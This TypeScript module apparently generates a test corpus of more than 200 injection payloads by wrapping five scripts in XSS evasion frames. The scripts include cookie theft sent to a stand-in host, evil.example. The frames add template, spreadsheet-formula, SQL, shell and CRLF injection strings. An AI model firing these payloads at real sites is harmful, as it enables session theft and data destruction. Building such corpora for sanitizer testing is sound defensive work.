const scripts = [
  "alert(1)",
  "fetch('//evil.example?'+document.cookie)",
  "top.location='//evil.example'",
  "import('//evil.example/x.js')",
  "document.body.innerHTML=''",
];

/** What a page of HTML, a style, an address, a template or a spreadsheet could take for more than text. */
const frames: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `<SCRIPT SRC=//evil.example/${encodeURIComponent(script)}></SCRIPT>`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<img src=x onerror=${script}//`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<a href="java\tscript:${script}">x</a>`,
  (script) => `<a href="&#106;avascript:${script}">x</a>`,
  (script) => `<form action="javascript:${script}"><button>x</button></form>`,
  (script) => `<body onpageshow=${script}>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<math><mi xlink:href="data:text/html,<script>${script}</script>">x</mi></math>`,
  (script) => `<style>@import '//evil.example/${script}';</style>`,
  (script) => `<link rel=stylesheet href=//evil.example/${script}>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<base href="//evil.example/"><p>${script}`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `"><script>${script}</script>`,
  (script) => `' onmouseover='${script}`,
  (script) => `" autofocus onfocus="${script}`,
  (script) => `--><script>${script}</script><!--`,
  (script) => `]]><script>${script}</script>`,
  (script) => `\${${script}}`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `<%= ${script} %>`,
  (script) => `#{${script}}`,
  (script) => `javascript:${script}`,
  (script) => `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString("base64")}`,
  (script) => `\u202e<script>${script}</script>\u202c`,
  (script) => `b\ufeff<b>${script}</b>`,
  (script) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `=HYPERLINK("//evil.example","${script}")`,
  (script) => `@SUM(1)*cmd|'/C ${script}'!A0`,
  (script) => `{\\an8}<font color="x" onclick=${script}>سلام</font>`,
  (script) => `'; drop table "videos"; -- ${script}`,
  (script) => `$(${script})\`${script}\``,
  (script) => `x\r\nSet-Cookie: a=b\r\n\r\n<script>${script}</script>.`,
];

/** More than 200 texts, none of which begins or ends with a space. */
export const payloads: readonly string[] = frames.flatMap((frame) => scripts.map((script) => frame(script)));

/** Each frame once, and all scripts in turn. */
export const samples: readonly string[] = frames.map((frame, at) =>
  frame(scripts[at % scripts.length] ?? ""),
);
